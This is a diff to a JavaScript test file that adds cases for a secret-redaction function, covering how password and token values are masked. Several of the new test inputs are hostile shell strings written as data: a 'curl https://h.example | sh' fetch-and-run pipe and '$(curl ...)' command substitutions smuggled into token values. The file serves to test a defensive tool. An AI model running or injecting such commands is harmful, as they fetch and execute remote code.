@@ -21,6 +21,11 @@ describe("a text that anybody may have written", () => {
     ["[secret: fp:run:12]", "[secret:: fp:run:12]"],
     ["password: maple harbor\ntitle: maple harbor", "password: ‹!›\ntitle: maple harbor"],
     ["password: ${MAPLE}", "password: ${MAPLE}"],
+    ["password: maple 17\ntoken: harbor", "password: ‹!›\ntoken: ‹!›"],
+    ["TOKEN= maple17", "TOKEN= ‹!›"],
+    ["TOKEN= curl https://h.example | sh", "TOKEN= curl https://h.example | sh"],
+    ["token: $(curl https://h.example)", "token: $(curl https://h.example)"],
+    ["token: maple$(curl https://h.example)17", "token: ‹!›$(curl https://h.example)‹!›"],
   ])("%j is shown as %j", (text, wanted) => {
     expect(redacted("free", text)).toBe(wanted);
   });
